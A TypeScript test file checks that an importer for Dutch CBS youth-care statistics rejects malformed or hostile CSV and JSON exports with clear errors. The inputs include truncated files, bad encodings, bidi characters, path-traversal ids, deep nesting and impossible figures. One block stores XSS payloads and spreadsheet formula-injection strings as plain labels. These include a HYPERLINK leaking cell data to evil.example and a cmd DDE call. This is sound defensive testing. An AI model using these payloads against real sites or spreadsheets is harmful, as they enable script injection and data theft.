/**
 * Hostile and malformed exports, through the importer (runImport, what `npm run import` runs). Each one ends
 * with one DataError naming the file, the line or JSON path, and what was expected, and leaves the earlier
 * data folder exactly as it was, with nothing beside it; or, where the input is merely unusual (UTF-16, another
 * separator, markup or a formula in a label), it imports safely and the text is kept as text.
 */
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadRegister } from '../../src/node/reference-fs';
import {
  COUNT_HEADER,
  COUNT_LINES,
  HostileImport,
  observation,
  ODATA_HEADER,
  ODATA_LINES,
  odataText,
  removeDir,
  statlineText,
  tempDir,
} from './helpers';

let t: HostileImport;
beforeAll(async () => {
  t = new HostileImport(await tempDir('hostile-import-'));
  await t.setUp();
});
afterAll(async () => removeDir(t.tmp));

const PCT_HEADER = '"Regio\'s";"Perioden";"Jongeren met jeugdhulp in natura (% (zie toelichting))"';
const withTopic = (header: string) => `"Geslacht";${header}`;

describe('hostile input: CSV structure', () => {
  it('refuses a duplicated column instead of letting the last one win', async () => {
    const header = `${COUNT_HEADER};"Jongeren met jeugdhulp (aantal)"`;
    const lines = ['"Nederland";"2022*";396780;40120;1', '"Aa en Hunze";"2022*";430;45;1'];
    expect(await t.failure([await t.write('dubbele-kolom.csv', statlineText(lines, header))])).toMatchInlineSnapshot(`"dubbele-kolom.csv, regel 1: kolom "Jongeren met jeugdhulp (aantal)": elke kolomnaam één keer in de kopregel; deze staat in kolom 3 en kolom 5, en welke van de twee geldt is niet te zeggen"`);
    const odata = odataText(ODATA_LINES.map((l) => `${l},1`), `${ODATA_HEADER},TotaalJongerenMetJeugdzorgInNatura_1`);
    expect(await t.failure([await t.write('dubbele-kolom-odata.csv', odata)])).toMatchInlineSnapshot(`"dubbele-kolom-odata.csv, regel 1: kolom "TotaalJongerenMetJeugdzorgInNatura_1": elke kolomnaam één keer in de kopregel; deze staat in kolom 5 en kolom 7, en welke van de twee geldt is niet te zeggen"`);
  });

  it('refuses a file whose last line has no line end (cut in the middle of a figure)', async () => {
    const text = statlineText().replace(/9380;745\r\n$/, '9380;74');
    expect(await t.failure([await t.write('afgebroken-regel.csv', text)])).toMatchInlineSnapshot(`"afgebroken-regel.csv, regel 4: een regeleinde na de laatste regel: zonder regeleinde is het bestand misschien midden in een regel afgebroken. Is het compleet, voeg dan een regeleinde toe"`);
  });

  it('refuses a file cut at a line boundary: a region missing in the later period', async () => {
    const lines = [...COUNT_LINES, '"Nederland";"2023*";401230;40450', '"Aa en Hunze";"2023*";445;50'];
    expect(await t.failure([await t.write('afgebroken-periode.csv', statlineText(lines))], { release: '2024-04-30' })).toMatchInlineSnapshot(`"afgebroken-periode.csv, regel 6: rijen voor Utrecht (GM0344) in 2023, zoals in 2022 (regel 4), want die gemeente bestond toen; zonder die rijen is het bestand waarschijnlijk afgebroken; het bestand eindigt op regel 6"`);
  });

  it('refuses a file cut at a line boundary: the last region with fewer categories than the one before', async () => {
    const lines = [
      '"Totaal mannen en vrouwen";"Nederland";"2022*";396780;40120',
      '"Mannen";"Nederland";"2022*";211500;21300',
      '"Vrouwen";"Nederland";"2022*";185280;18820',
      '"Totaal mannen en vrouwen";"Aa en Hunze";"2022*";430;45',
      '"Mannen";"Aa en Hunze";"2022*";235;25',
      '"Vrouwen";"Aa en Hunze";"2022*";195;20',
      '"Totaal mannen en vrouwen";"Utrecht (gemeente)";"2022*";9380;745',
    ];
    expect(await t.failure([await t.write('afgebroken-blok.csv', statlineText(lines, withTopic(COUNT_HEADER)))])).toMatchInlineSnapshot(`"afgebroken-blok.csv, regel 8: voor de laatste regio (Utrecht, GM0344) evenveel categorieën als voor de regio ervoor (3 rijen bij GM1680, hier 1); het bestand is waarschijnlijk afgebroken; het bestand eindigt op regel 8"`);
  });

  it('refuses a national file cut at a line boundary: most but not all gemeenten of the year', async () => {
    const gemeenten = loadRegister().gemeentenIn(2022);
    const kept = gemeenten.slice(0, gemeenten.length - 12);
    const lines = ['2,T001203,NL00      ,2022JJ00,  461985,  695095', ...kept.map((g, i) => `${10 + i},T001203,${g.code}    ,2022JJ00,     595,     860`)];
    expect(await t.failure([await t.write('afgebroken-land.csv', odataText(lines))])).toMatchInlineSnapshot(`"afgebroken-land.csv, regel 335: voor 2022 alle 345 gemeenten van dat jaar, zoals een landelijke tabel ze heeft; er ontbreken er 12, onder meer Zandvoort (GM0473), Zeewolde (GM0050), Zeist (GM0355). Het bestand is waarschijnlijk afgebroken; het bestand eindigt op regel 335 (een selectie van gemeenten heeft er minder dan de helft)"`);
  });

  it('reads ; , and tab as separators alike (a StatLine download saved again by a spreadsheet)', async () => {
    const semicolon = await t.success([await t.write('sep/puntkomma.csv', statlineText())], 'sep-puntkomma');
    const header = '"Regio\'s","Perioden","Jongeren met jeugdhulp (aantal)","Jongeren met jeugdbescherming (aantal)"';
    const comma = await t.success([await t.write('sep/komma.csv', statlineText(COUNT_LINES.map((l) => l.replaceAll(';', ',')), header))], 'sep-komma');
    const tab = await t.success([await t.write('sep/tab.csv', statlineText(COUNT_LINES.map((l) => l.replaceAll(';', '\t')), COUNT_HEADER.replaceAll(';', '\t')))], 'sep-tab');
    for (const other of [comma, tab]) {
      expect(other.datasets[0]!.rows).toEqual(semicolon.datasets[0]!.rows);
      expect(other.datasets[0]!.meta.measures).toEqual(semicolon.datasets[0]!.meta.measures);
    }
    const odataTab = await t.success([await t.write('sep/odata-tab.csv', odataText(ODATA_LINES.map((l) => l.replaceAll(',', '\t')), ODATA_HEADER.replaceAll(',', '\t')))], 'sep-odata-tab');
    const odataComma = await t.success([await t.write('sep/odata-komma.csv', odataText())], 'sep-odata-komma');
    expect(odataTab.datasets[0]!.rows).toEqual(odataComma.datasets[0]!.rows);
  });
});

describe('hostile input: encodings and invisible characters', () => {
  it('reads UTF-16 with its byte-order mark (Excel "Unicode-tekst"), little and big endian, as UTF-8', async () => {
    const text = statlineText(COUNT_LINES, COUNT_HEADER, { bom: false });
    const utf8 = await t.success([await t.write('enc/utf8.csv', `\uFEFF${text}`)], 'enc-utf8');
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const be = Buffer.from(le);
    be.swap16();
    const fromLe = await t.success([await t.write('enc/utf16le.csv', le)], 'enc-utf16le');
    const fromBe = await t.success([await t.write('enc/utf16be.csv', be)], 'enc-utf16be');
    expect(fromLe.datasets[0]!.rows).toEqual(utf8.datasets[0]!.rows);
    expect(fromBe.datasets[0]!.rows).toEqual(utf8.datasets[0]!.rows);
  });

  it('names UTF-16 without a byte-order mark, and Latin-1', async () => {
    const text = statlineText(COUNT_LINES, COUNT_HEADER, { bom: false });
    expect(await t.failure([await t.write('utf16-zonder-bom.csv', Buffer.from(text, 'utf16le'))])).toMatchInlineSnapshot(`"utf16-zonder-bom.csv: tekst in UTF-8; dit lijkt UTF-16 zonder byte-order mark (elk tweede byte is 0). Sla de export op als UTF-8"`);
    const latin1 = Buffer.from(statlineText([...COUNT_LINES, '"Súdwest-Fryslân";"2022*";1105;95'], COUNT_HEADER, { bom: false }), 'latin1');
    const e = Buffer.from(statlineText(COUNT_LINES, COUNT_HEADER.replace('jeugdbescherming', 'jeugdbescherming, één maatregel'), { bom: false }), 'latin1');
    expect(await t.failure([await t.write('latin1-e.csv', e)])).toMatchInlineSnapshot(`"latin1-e.csv, regel 1: geen geldige UTF-8-tekst; sla de export op als UTF-8 (StatLine: "CSV met BOM, UTF-8")"`);
    expect(await t.failure([await t.write('latin1.csv', latin1)])).toMatchInlineSnapshot(`"latin1.csv, regel 5: geen geldige UTF-8-tekst; sla de export op als UTF-8 (StatLine: "CSV met BOM, UTF-8")"`);
  });

  it('refuses bidi controls, control characters and a byte-order mark inside the text', async () => {
    const rlo = statlineText(['"Nederland";"2022*";396780;40120', '"Aa en Hunze\u202E";"2022*";430;45']);
    expect(await t.failure([await t.write('bidi.csv', rlo)])).toMatchInlineSnapshot(`"bidi.csv, regel 3: tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+202E (RIGHT-TO-LEFT OVERRIDE), een onzichtbaar richtingteken (bidi). Verwijder het teken uit de bron (gevonden: ""Aa en Hunze<U+202E>";"2022*";430;45")"`);
    const isolate = statlineText(COUNT_LINES, COUNT_HEADER.replace('jeugdhulp', 'jeugd\u2066hulp\u2069'));
    expect(await t.failure([await t.write('bidi-kop.csv', isolate)])).toMatchInlineSnapshot(`"bidi-kop.csv, regel 1: tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+2066 (LEFT-TO-RIGHT ISOLATE), een onzichtbaar richtingteken (bidi). Verwijder het teken uit de bron (gevonden: "...;"Jongeren met jeugd<U+2066>hulp<U+2069> (aantal)";"Jon")"`);
    const bell = statlineText(['"Nederland";"2022*";396780;40120', '"Aa en\u0007 Hunze";"2022*";430;45']);
    expect(await t.failure([await t.write('stuurteken.csv', bell)])).toMatchInlineSnapshot(`"stuurteken.csv, regel 3: tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+0007, een onzichtbaar stuurteken. Verwijder het teken uit de bron (gevonden: ""Aa en<U+0007> Hunze";"2022*";430;")"`);
    const zwnbsp = statlineText(['"Nederland";"2022*";396780;40120', '"Aa en\uFEFFHunze";"2022*";430;45']);
    expect(await t.failure([await t.write('bom-midden.csv', zwnbsp)])).toMatchInlineSnapshot(`"bom-midden.csv, regel 3: tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+FEFF (BYTE ORDER MARK), een onzichtbaar stuurteken. Verwijder het teken uit de bron (gevonden: ""Aa en<U+FEFF>Hunze";"2022*";430;4")"`);
  });

  it('reads a file that starts with two byte-order marks (saved twice) as one with one', async () => {
    const store = await t.success([await t.write('enc/dubbele-bom.csv', `\uFEFF${statlineText()}`)], 'enc-dubbele-bom');
    expect(store.datasets[0]!.rows).toHaveLength(3);
  });

  it('refuses a bidi control in JSON, also when written as an escape', async () => {
    const escaped = '{"value": [' + JSON.stringify(observation({})) + ', ' + JSON.stringify(observation({ Id: 2, RegioS: 'GM1680' })).replace('"GM1680"', '"GM1680\\u202e"') + ']}';
    const dir = await t.jsonFolder('v4-bidi', { 'Observations.json': escaped });
    expect(await t.failure([dir])).toMatchInlineSnapshot(`"v4-bidi/Observations.json, regel 1: kolom "value[1].RegioS": tekst zonder onzichtbare richting- of stuurtekens, die een naam of code anders kunnen laten lezen dan hij is; hier staat U+202E (RIGHT-TO-LEFT OVERRIDE), een onzichtbaar richtingteken (bidi). Verwijder het teken uit de bron (gevonden: "GM1680<U+202E>")"`);
  });
});

describe('hostile input: JSON', () => {
  it('refuses duplicate keys, naming the line and the JSON path', async () => {
    const page = '{\n  "value": [\n    {"Id": 1, "Measure": "M004117", "ValueAttribute": "None", "Value": 621450.0, "Value": 1.0, "VerwijzerJeugdzorg": "T001270", "RegioS": "NL01", "Perioden": "2022JJ00"}\n  ]\n}\n';
    const dir = await t.jsonFolder('v4-dubbele-sleutel', { 'Observations.json': page });
    expect(await t.failure([dir])).toMatchInlineSnapshot(`"v4-dubbele-sleutel/Observations.json, regel 3: kolom "value[0].Value": elke sleutel één keer per object (JSON.parse zou stil de laatste nemen); "Value" staat ook op regel 3"`);
    const twice = `{"value": [${JSON.stringify(observation({}))}],\n "value": []}`;
    const top = await t.jsonFolder('v4-dubbele-value', { 'Observations.json': twice });
    expect(await t.failure([top])).toMatchInlineSnapshot(`"v4-dubbele-value/Observations.json, regel 2: kolom "value": elke sleutel één keer per object (JSON.parse zou stil de laatste nemen); "value" staat ook op regel 1"`);
  });

  it('refuses deeply nested JSON, valid or broken, without a stack overflow', async () => {
    const depth = 200_000;
    const valid = await t.jsonFolder('diep-geldig', { 'Observations.json': `{"value":${'['.repeat(depth)}${']'.repeat(depth)}}` });
    expect(await t.failure([valid])).toMatchInlineSnapshot(`"diep-geldig/Observations.json, regel 1: kolom "value[0][0][0][0][0][0][0][0][0][0][0][0…[0][0][0][0][0][0][0][0][0][0]": JSON van hoogstens 64 niveaus diep"`);
    const broken = await t.jsonFolder('diep-kapot', { 'Observations.json': `{"value":${'['.repeat(depth)}${']'.repeat(depth - 1)}}` });
    expect(await t.failure([broken])).toMatchInlineSnapshot(`"diep-kapot/Observations.json, regel 1: kolom "value[0][0][0][0][0][0][0][0][0][0][0][0…[0][0][0][0][0][0][0][0][0][0]": JSON van hoogstens 64 niveaus diep"`);
    const objects = await t.jsonFolder('diep-objecten', { 'Observations.json': `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}` });
    expect(await t.failure([objects])).toMatchInlineSnapshot(`"diep-objecten/Observations.json, regel 1: kolom "a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.….a.a.a.a.a.a.a.a.a.a.a.a.a.a.a": JSON van hoogstens 64 niveaus diep"`);
  });

  it('refuses a 50 MB label in JSON and a title longer than a label may be', async () => {
    const huge = { value: [observation({})] , huge: 'x'.repeat(50 * 1024 * 1024) };
    const dir = await t.jsonFolder('v4-50mb', { 'Observations.json': huge });
    expect(await t.failure([dir])).toMatchInlineSnapshot(`"v4-50mb/Observations.json, regel 14: kolom "huge": een tekst van hoogstens 100.000 tekens; een naam, label of toelichting is nooit zo lang (gevonden: "52.428.800 tekens")"`);
    const long = await t.jsonFolder('v4-lange-titel', {
      'Observations.json': { value: [observation({})] },
      'MeasureCodes.json': { value: [{ Identifier: 'M004117', Title: 'Trajecten '.repeat(40), Unit: 'aantal', Decimals: 0 }] },
    });
    expect(await t.failure([long])).toMatchInlineSnapshot(`"v4-lange-titel/MeasureCodes.json: kolom "value[0].Title": een tekst van hoogstens 300 tekens; een titel, code of cijfer is nooit zo lang (gevonden: "400 tekens")"`);
  });
});

describe('hostile input: periods', () => {
  it('refuses the period 0000JJ00 (which crashed with a stack trace)', async () => {
    const lines = ['"Nederland";"0000JJ00";396780;40120', '"Aa en Hunze";"0000JJ00";430;45'];
    expect(await t.failure([await t.write('periode-0000.csv', statlineText(lines))])).toMatchInlineSnapshot(`"periode-0000.csv, regel 2: kolom "Perioden": een periode zoals "2022", "2022*", "2023 1e halfjaar**" of "2023HJ01" (gevonden: "0000JJ00")"`);
    const odata = odataText(ODATA_LINES.map((l) => l.replace('2022JJ00', '0000JJ00')));
    expect(await t.failure([await t.write('periode-0000-odata.csv', odata)])).toMatchInlineSnapshot(`"periode-0000-odata.csv, regel 2: kolom "Perioden": een CBS-periodecode zoals 2022JJ00 of 2023HJ01 (of een jaartal) (gevonden: "0000JJ00")"`);
  });

  it('refuses the year 9999 and any period that had not ended on the release date', async () => {
    const lines = [...COUNT_LINES, '"Nederland";"9999*";396780;40120'];
    expect(await t.failure([await t.write('jaar-9999.csv', statlineText(lines))])).toMatchInlineSnapshot(`"jaar-9999.csv, regel 5: kolom "Perioden": een periode die vóór de publicatiedatum 2023-04-28 (--release) is afgelopen; 9999 is dan nog niet voorbij (gevonden: "9999JJ00")"`);
    const odata = odataText(ODATA_LINES.map((l) => l.replace('2022JJ00', '9999JJ00')));
    expect(await t.failure([await t.write('jaar-9999-odata.csv', odata)])).toMatchInlineSnapshot(`"jaar-9999-odata.csv, regel 2: kolom "Perioden": een periode die vóór de publicatiedatum 2023-04-28 (--release) is afgelopen; 9999 is dan nog niet voorbij (gevonden: "9999JJ00")"`);
    const early = statlineText(COUNT_LINES.map((l) => l.replace('2022*', '2023 1e halfjaar*')));
    expect(await t.failure([await t.write('te-vroeg.csv', early)], { release: '2023-04-28' })).toMatchInlineSnapshot(`"te-vroeg.csv, regel 2: kolom "Perioden": een periode die vóór de publicatiedatum 2023-04-28 (--release) is afgelopen; 1e halfjaar 2023 is dan nog niet voorbij (gevonden: "2023HJ01")"`);
  });
});

describe('hostile input: regions and codes', () => {
  it('refuses a gemeente in a year after it merged away, and before it was formed', async () => {
    const weesp = [...COUNT_LINES.map((l) => l.replace('2022*', '2023*')), '"Weesp";"2023*";395;30'];
    expect(await t.failure([await t.write('weesp-2023.csv', statlineText(weesp))], { release: '2024-04-30' })).toMatchInlineSnapshot(`"weesp-2023.csv, regel 5: kolom "Regio's": een gemeente van de indeling van 2023; Weesp (GM0457) bestond in 2023 niet meer, want ging op 1 januari 2023 op in Amsterdam (GM0363) (gevonden: "GM0457")"`);
    const odata = odataText([...ODATA_LINES.slice(0, 2), '9,T001203,GM1980    ,2021JJ00,     800,    1200'].map((l) => l.replace('2022JJ00', '2021JJ00')));
    expect(await t.failure([await t.write('dijk-en-waard-2021.csv', odata)])).toMatchInlineSnapshot(`"dijk-en-waard-2021.csv, regel 4: kolom "Wijken": een gemeente van de indeling van 2021; Dijk en Waard (GM1980) bestond in 2021 nog niet (ontstaan op 1 januari 2022) (gevonden: "GM1980")"`);
  });

  it('refuses a wijk code the register does not know', async () => {
    const odata = odataText([...ODATA_LINES, '9,T001203,WK036399  ,2022JJ00,      25,      40']);
    expect(await t.failure([await t.write('wijk-onbekend.csv', odata)])).toMatchInlineSnapshot(`"wijk-onbekend.csv, regel 6: kolom "Wijken": een wijk van de wijkindeling van 2022 uit het register (src/reference/wijken.csv); WK036399 hoort daar niet bij (gevonden: "WK036399")"`);
  });

  it('refuses unknown codes: a region, a symbol, a measure and a category outside the code list', async () => {
    expect(await t.failure([await t.write('regio-onbekend.csv', statlineText([...COUNT_LINES, '"Atlantis";"2022*";25;10']))])).toMatchInlineSnapshot(`"regio-onbekend.csv, regel 5: kolom "Regio's": een gemeente, provincie of jeugdregio uit het register (src/reference), of "Nederland" (gevonden: "Atlantis")"`);
    expect(await t.failure([await t.write('teken-onbekend.csv', statlineText([...COUNT_LINES, '"Aalsmeer";"2022*";?;10']))])).toMatchInlineSnapshot(`"teken-onbekend.csv, regel 5: kolom "Jongeren met jeugdhulp (aantal)": een getal (zoals "12,5") of een CBS-teken: ".", "x" of "-" (gevonden: "?")"`);
    const measure = await t.jsonFolder('v4-maat-onbekend', {
      'Observations.json': { value: [observation({}), observation({ Id: 2, Measure: 'M999999' })] },
      'MeasureCodes.json': { value: [{ Identifier: 'M004117', Title: 'Totaal jeugdhulptrajecten in natura', Unit: 'aantal', Decimals: 0 }] },
    });
    expect(await t.failure([measure])).toMatchInlineSnapshot(`"v4-maat-onbekend/Observations.json: kolom "value[1].Measure": een maat uit MeasureCodes (gevonden: "M999999")"`);
    const category = await t.jsonFolder('v4-categorie-onbekend', {
      'Observations.json': { value: [observation({}), observation({ Id: 2, VerwijzerJeugdzorg: 'A999999' })] },
      'Dimensions.json': { value: [{ Identifier: 'VerwijzerJeugdzorg', Kind: 'Dimension' }, { Identifier: 'RegioS', Kind: 'GeoDimension' }, { Identifier: 'Perioden', Kind: 'TimeDimension' }] },
      'VerwijzerJeugdzorgCodes.json': { value: [{ Identifier: 'T001270', Title: 'Totaal' }] },
    });
    expect(await t.failure([category])).toMatchInlineSnapshot(`"v4-categorie-onbekend/Observations.json: kolom "value[1].VerwijzerJeugdzorg": een categorie uit de codelijst van "VerwijzerJeugdzorg" (gevonden: "A999999")"`);
  });

  it('refuses path names where an id or code is made from the input', async () => {
    const properties = await t.jsonFolder('v4-pad-id', {
      'Observations.json': { value: [observation({})] },
      'Properties.json': { Identifier: '../../etc', Title: 'Tabel' },
    });
    expect(await t.failure([properties])).toMatchInlineSnapshot(`"v4-pad-id/Properties.json: kolom "Identifier": een CBS-tabelnummer zoals 85097NED (gevonden: "../../etc")"`);
    const code = await t.jsonFolder('v4-pad-code', { 'Observations.json': { value: [observation({ VerwijzerJeugdzorg: '..\\..\\windows' })] } });
    expect(await t.failure([code])).toMatchInlineSnapshot(`"v4-pad-code/Observations.json: kolom "value[0].VerwijzerJeugdzorg": een categoriecode van hoogstens 100 letters en cijfers, zonder spatie, "/", "\\" of ".." (gevonden: "..\\..\\windows")"`);
    const slashed = await t.jsonFolder('v4-pad-code-slash', { 'Observations.json': { value: [observation({ VerwijzerJeugdzorg: 'a/../../b' })] } });
    expect(await t.failure([slashed])).toMatchInlineSnapshot(`"v4-pad-code-slash/Observations.json: kolom "value[0].VerwijzerJeugdzorg": een categoriecode van hoogstens 100 letters en cijfers, zonder spatie, "/", "\\" of ".." (gevonden: "a/../../b")"`);
    const label = statlineText(['"../..";"Nederland";"2022*";396780;40120'], withTopic(COUNT_HEADER));
    expect(await t.failure([await t.write('pad-categorie.csv', label)])).toMatchInlineSnapshot(`"pad-categorie.csv, regel 2: kolom "Geslacht": een categorie met letters of cijfers in de naam (de code van de categorie wordt ervan gemaakt) (gevonden: "../..")"`);
    expect(await t.failure([], { cbs: ['../85097NED'] })).toMatchInlineSnapshot(`"--cbs: een CBS-tabelnummer zoals 85097NED (gevonden: "../85097NED")"`);
  });
});

describe('hostile input: figures', () => {
  it('refuses negative percentages and percentages over 100', async () => {
    expect(await t.failure([await t.write('pct-negatief.csv', statlineText(['"Nederland";"2022*";13,2', '"Aa en Hunze";"2022*";-1,5'], PCT_HEADER))])).toMatchInlineSnapshot(`"pct-negatief.csv, regel 3: kolom "Jongeren met jeugdhulp in natura": een percentage van 0 of meer (gevonden: "-1.5")"`);
    expect(await t.failure([await t.write('pct-boven-100.csv', statlineText(['"Nederland";"2022*";13,2', '"Aa en Hunze";"2022*";113,2'], PCT_HEADER))])).toMatchInlineSnapshot(`"pct-boven-100.csv, regel 3: kolom "Jongeren met jeugdhulp in natura": een percentage van hoogstens 100 (gevonden: "113.2")"`);
    const per1000 = '"Regio\'s";"Perioden";"Jongeren met jeugdhulp (per 1 000 jongeren)"';
    expect(await t.failure([await t.write('per-1000.csv', statlineText(['"Nederland";"2022*";132,4', '"Aa en Hunze";"2022*";1132,4'], per1000))])).toMatchInlineSnapshot(`"per-1000.csv, regel 3: kolom "Jongeren met jeugdhulp": hoogstens 1.000 per 1.000: er zijn niet meer personen dan de noemer telt (gevonden: "1132.4")"`);
  });

  it('refuses fractional persons', async () => {
    expect(await t.failure([await t.write('halve-persoon.csv', statlineText([...COUNT_LINES, '"Aalsmeer";"2022*";212,5;10']))])).toMatchInlineSnapshot(`"halve-persoon.csv, regel 5: kolom "Jongeren met jeugdhulp": een geheel aantal: personen tellen in hele aantallen, niet in delen (gevonden: "212.5")"`);
  });

  it('refuses a category larger than its total, a gemeente larger than Nederland and a wijk larger than its gemeente', async () => {
    const lines = [
      '"Totaal mannen en vrouwen";"Nederland";"2022*";396780;40120',
      '"Mannen";"Nederland";"2022*";211500;21300',
      '"Totaal mannen en vrouwen";"Aa en Hunze";"2022*";430;45',
      '"Mannen";"Aa en Hunze";"2022*";435;25',
    ];
    expect(await t.failure([await t.write('deel-boven-totaal.csv', statlineText(lines, withTopic(COUNT_HEADER)))])).toMatchInlineSnapshot(`"deel-boven-totaal.csv, regel 5: kolom "Jongeren met jeugdhulp": hoogstens het totaal van Geslacht: "Totaal mannen en vrouwen" is 430, en een categorie kan niet groter zijn dan het totaal (regel 4) (gevonden: "435")"`);
    // The duplicated column of the issue: Nederland's total became 1.
    const nl = statlineText(['"Nederland";"2022*";1;40120', ...COUNT_LINES.slice(1)]);
    expect(await t.failure([await t.write('nederland-1.csv', nl)])).toMatchInlineSnapshot(`"nederland-1.csv, regel 3: kolom "Jongeren met jeugdhulp": hoogstens het cijfer van Nederland (1) in dezelfde periode (regel 2) (gevonden: "430")"`);
    const wijk = odataText(ODATA_LINES.map((l) => l.replace('     205,     310', '   21600,     310')));
    expect(await t.failure([await t.write('wijk-boven-gemeente.csv', wijk)])).toMatchInlineSnapshot(`"wijk-boven-gemeente.csv, regel 4: kolom "TotaalJongerenMetJeugdzorgInNatura_1": hoogstens het cijfer van de gemeente GM0363 (21520) in dezelfde periode (regel 3) (gevonden: "21600")"`);
  });
});

describe('hostile input: huge fields', () => {
  it('refuses a 50 MB label in a CSV, and a header longer than a label may be', async () => {
    const huge = statlineText([`"${'Aa en Hunze'.repeat(5 * 1024 * 1024)}";"2022*";430;45`]);
    expect(await t.failure([await t.write('label-50mb.csv', huge)])).toMatchInlineSnapshot(`"label-50mb.csv, regel 2: kolom "Regio's": een veld van hoogstens 300 tekens; een naam, label of cijfer is nooit zo lang (gevonden: "57.671.680 tekens")"`);
    const header = COUNT_HEADER.replace('Jongeren met jeugdhulp', 'Jongeren met jeugdhulp '.repeat(20));
    expect(await t.failure([await t.write('lange-kop.csv', statlineText(COUNT_LINES, header))])).toMatchInlineSnapshot(`"lange-kop.csv, regel 1: kolom "Jongeren met jeugdhulp Jongeren met jeug...": een veld van hoogstens 300 tekens; een naam, label of cijfer is nooit zo lang (gevonden: "469 tekens")"`);
  });
});

describe('hostile input that is stored as text (a safe result)', () => {
  const hostile = [
    '<script>alert(document.domain)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    '=HYPERLINK("https://evil.example/?"&A1;"klik")',
    '+SUM(1;2)',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '-2+3',
  ];

  it('keeps markup and formulas in labels as the text they are, in meta.json and on reading back', async () => {
    const header = `"Soort";"Regio's";"Perioden";"${hostile[1]!.replaceAll('"', '""')} (aantal)";"Jongeren met jeugdbescherming (aantal)"`;
    const lines = [
      `"Totaal";"Nederland";"2022*";396780;40120`,
      ...hostile.map((label, i) => `"${label.replaceAll('"', '""')}";"Nederland";"2022*";${(i + 1) * 100};${(i + 1) * 10}`),
    ];
    const store = await t.success([await t.write('markup.csv', statlineText(lines, header))], 'markup');
    const { meta } = store.datasets[0]!;
    expect(meta.dimensions[0]!.codes.map((c) => c.label)).toEqual(['Totaal', ...hostile]);
    expect(meta.measures[0]!.label).toBe(hostile[1]);
    expect(JSON.stringify(meta)).toContain(JSON.stringify(hostile[0]));
  });

  it('keeps a CSV field with a line break in it as one field', async () => {
    const lines = ['"Totaal";"Nederland";"2022*";396780;40120', '"Regel een\nregel twee";"Nederland";"2022*";100;10'];
    const store = await t.success([await t.write('regelbreuk.csv', statlineText(lines, withTopic(COUNT_HEADER)))], 'regelbreuk');
    expect(store.datasets[0]!.meta.dimensions[0]!.codes.map((c) => c.label)).toEqual(['Totaal', 'Regel een\nregel twee']);
  });

  it('reads the sample exports in this folder unchanged (control: nothing here refuses good input)', async () => {
    const store = await t.success([await t.write('goed-2.csv', statlineText()), await t.write('goed-odata.csv', odataText())], 'goed-beide');
    expect(store.datasets.map((d) => d.meta.id).sort()).toEqual(['goed-2', 'jeugdzorg-in-natura-wijken']);
    expect(path.basename(store.dir)).toBe('goed-beide');
  });
});
